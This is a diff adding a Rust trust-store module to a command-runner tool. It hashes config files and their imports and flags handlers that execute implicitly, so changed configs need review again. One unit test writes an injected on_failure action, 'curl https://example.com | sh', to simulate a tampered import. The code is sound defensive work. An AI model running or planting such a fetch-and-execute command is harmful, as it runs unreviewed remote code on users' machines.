@@ -0,0 +1,274 @@
+use crate::config::{
+    CommandConfigMap, Config, PromptOptionsVariant, SelectOptionsConfig, VariableConfig,
+    VariableConfigMap,
+};
+use crate::state::{config_key, user_state_dir};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::HashMap;
+use std::fs;
+use std::io;
+use std::path::{Path, PathBuf};
+use thiserror::Error;
+
+/// The name of the command-line flag used to execute an untrusted config without being prompted.
+pub const TRUST_ARG: &str = "--trust";
+
+const TRUST_FILE_NAME: &str = "trusted";
+
+/// The config files the user has agreed to trust.
+/// Unlike [`crate::state::State`], this is stored in the user's home directory, since a config
+/// file must not be able to trust itself.
+#[derive(Serialize, Deserialize, Default, Debug)]
+pub struct TrustStore {
+    /// A hash of each trusted config file's text, and of each file they import, keyed by the file's
+    /// path.
+    #[serde(default)]
+    pub trusted: HashMap<String, String>,
+}
+
+impl TrustStore {
+    /// Loads the [`TrustStore`] from the provided path.
+    /// If nothing has been trusted yet, an empty [`TrustStore`] is returned.
+    pub fn load(path: &Path) -> Result<TrustStore, TrustError> {
+        if !path.exists() {
+            return Ok(TrustStore::default());
+        }
+
+        let text = fs::read_to_string(path).map_err(TrustError::ReadFailed)?;
+        serde_yaml::from_str(&text).map_err(TrustError::ParseFailed)
+    }
+
+    /// Saves the [`TrustStore`] to the provided path, creating its directory if necessary.
+    pub fn save(&self, path: &Path) -> Result<(), TrustError> {
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent).map_err(TrustError::WriteFailed)?;
+        }
+
+        let text = serde_yaml::to_string(self).map_err(TrustError::SerializeFailed)?;
+        fs::write(path, text).map_err(TrustError::WriteFailed)
+    }
+
+    /// Returns `true` if the config file at `config_path` has been trusted with the provided text
+    /// and imported files.
+    /// Changing (or moving) the config file, or any of the files it imports, means it has to be
+    /// trusted again.
+    pub fn is_trusted(&self, config_path: &Path, config_text: &str, imports: &[PathBuf]) -> bool {
+        self.trusted.get(&config_key(config_path)) == Some(&hash(config_text.as_bytes()))
+            && imported_files(imports).all(|import| match fs::read(import) {
+                Ok(contents) => self.trusted.get(&config_key(import)) == Some(&hash(&contents)),
+                Err(_) => false,
+            })
+    }
+
+    /// Records that the config file at `config_path` is trusted with the provided text and
+    /// imported files.
+    /// Imported files are trusted separately, since only the imports of the command being executed
+    /// are loaded.
+    pub fn trust(&mut self, config_path: &Path, config_text: &str, imports: &[PathBuf]) {
+        self.trusted
+            .insert(config_key(config_path), hash(config_text.as_bytes()));
+
+        for import in imported_files(imports) {
+            if let Ok(contents) = fs::read(import) {
+                self.trusted.insert(config_key(import), hash(&contents));
+            }
+        }
+    }
+}
+
+/// Returns the path of the [`TrustStore`] within the user's state directory, or `None` if the
+/// user's home directory can't be determined.
+pub fn store_path(get_env: impl Fn(&str) -> Option<String>) -> Option<PathBuf> {
+    Some(user_state_dir(get_env)?.join(TRUST_FILE_NAME))
+}
+
+/// Returns the parts of the config that execute commands without the command being explicitly
+/// invoked (e.g. execution variables and failure handlers).
+pub fn implicit_executions(config: &Config) -> Vec<String> {
+    let mut executions = Vec::new();
+    find_variable_executions(&config.variables, "variables", &mut executions);
+    find_command_executions(&config.commands, "commands", &mut executions);
+
+    for (name, environment) in &config.environments {
+        let path = format!("environments.{}.variables", name);
+        find_variable_executions(&environment.variables, &path, &mut executions);
+    }
+
+    executions
+}
+
+fn find_variable_executions(
+    variables: &VariableConfigMap,
+    path: &str,
+    executions: &mut Vec<String>,
+) {
+    for (key, variable) in variables {
+        let executes = match variable {
+            VariableConfig::Execution(_)
+            | VariableConfig::Keyring(_)
+            | VariableConfig::Secret(_) => true,
+            VariableConfig::Prompt(prompt) => matches!(
+                &prompt.prompt.options,
+                PromptOptionsVariant::Select(select)
+                    if matches!(select.options, SelectOptionsConfig::Execution(_))
+            ),
+            _ => false,
+        };
+
+        if executes {
+            executions.push(format!("{}.{}", path, key));
+        }
+    }
+}
+
+fn find_command_executions(commands: &CommandConfigMap, path: &str, executions: &mut Vec<String>) {
+    // Sorted so the executions are listed in the same order every time
+    let mut keys: Vec<&String> = commands.keys().collect();
+    keys.sort();
+
+    for key in keys {
+        let command = &commands[key];
+        let path = format!("{}.{}", path, key);
+        find_variable_executions(&command.variables, &format!("{path}.variables"), executions);
+
+        if command.on_failure.is_some() {
+            executions.push(format!("{path}.on_failure"));
+        }
+
+        if command.on_interrupt.is_some() {
+            executions.push(format!("{path}.on_interrupt"));
+        }
+
+        find_command_executions(&command.commands, &format!("{path}.commands"), executions);
+    }
+}
+
+/// Returns the imported files, skipping any directories that are tracked for glob imports.
+fn imported_files(imports: &[PathBuf]) -> impl Iterator<Item = &PathBuf> {
+    imports.iter().filter(|import| !import.is_dir())
+}
+
+fn hash(contents: &[u8]) -> String {
+    format!("{:x}", Sha256::digest(contents))
+}
+
+#[derive(Error, Debug)]
+pub enum TrustError {
+    #[error("failed to read trusted configs")]
+    ReadFailed(#[source] io::Error),
+
+    #[error("failed to write trusted configs")]
+    WriteFailed(#[source] io::Error),
+
+    #[error("failed to parse trusted configs")]
+    ParseFailed(#[source] serde_yaml::Error),
+
+    #[error("failed to serialize trusted configs")]
+    SerializeFailed(#[source] serde_yaml::Error),
+
+    #[error("couldn't determine the home directory to store trusted configs in")]
+    NoHomeDirectory,
+
+    #[error("{path} isn't trusted, review it and try again with {TRUST_ARG} (or use --inspect)")]
+    NotTrusted { path: String },
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::{parse_config, Platform};
+    use tempfile::TempDir;
+
+    #[test]
+    fn trust_store_requires_trusting_changed_configs_again() {
+        // Arrange
+        let dir = TempDir::new().unwrap();
+        let store_path = dir.path().join("state").join(TRUST_FILE_NAME);
+        let config_path = dir.path().join("plz.yaml");
+        fs::write(&config_path, "commands: {}").unwrap();
+
+        let mut store = TrustStore::load(&store_path).unwrap();
+        store.trust(&config_path, "commands: {}", &[]);
+
+        // Act
+        store.save(&store_path).unwrap();
+        let loaded_store = TrustStore::load(&store_path).unwrap();
+
+        // Assert
+        assert!(loaded_store.is_trusted(&config_path, "commands: {}", &[]));
+        assert!(!loaded_store.is_trusted(&config_path, "commands: { x: {} }", &[]));
+        assert!(!loaded_store.is_trusted(&dir.path().join("other.yaml"), "commands: {}", &[]));
+    }
+
+    #[test]
+    fn trust_store_requires_trusting_changed_imports_again() {
+        // Arrange
+        let dir = TempDir::new().unwrap();
+        let config_path = dir.path().join("plz.yaml");
+        let import_path = dir.path().join("deploy.yaml");
+        let config_text = "imports:\n  - deploy: ./deploy.yaml";
+        fs::write(&config_path, config_text).unwrap();
+        fs::write(&import_path, "action: ./deploy.sh").unwrap();
+        let imports = vec![import_path.clone()];
+
+        let mut store = TrustStore::default();
+        store.trust(&config_path, config_text, &imports);
+
+        // Act
+        let unchanged = store.is_trusted(&config_path, config_text, &imports);
+        let not_imported = store.is_trusted(&config_path, config_text, &[]);
+        fs::write(
+            &import_path,
+            "action: ./deploy.sh\non_failure:\n  action: curl https://example.com | sh",
+        )
+        .unwrap();
+        let changed = store.is_trusted(&config_path, config_text, &imports);
+
+        // Assert
+        assert!(unchanged);
+        assert!(not_imported);
+        assert!(!changed);
+    }
+
+    #[test]
+    fn implicit_executions_finds_execution_variables_and_handlers() {
+        // Arrange
+        let config = parse_config(
+            &"variables:
+    sha:
+        execute: git rev-parse HEAD
+    name: plz
+commands:
+    deploy:
+        variables:
+            target:
+                prompt:
+                    message: Target
+                    options:
+                        execute: ls targets
+        on_failure:
+            action: ./rollback.sh
+        action: ./deploy.sh
+    build:
+        action: cargo build"
+                .to_string(),
+            Platform::Linux,
+            None,
+        )
+        .unwrap();
+
+        // Act
+        let executions = implicit_executions(&config);
+
+        // Assert
+        assert_eq!(
+            executions,
+            vec![
+                "variables.sha",
+                "commands.deploy.variables.target",
+                "commands.deploy.on_failure"
+            ]
+        );
+    }
+}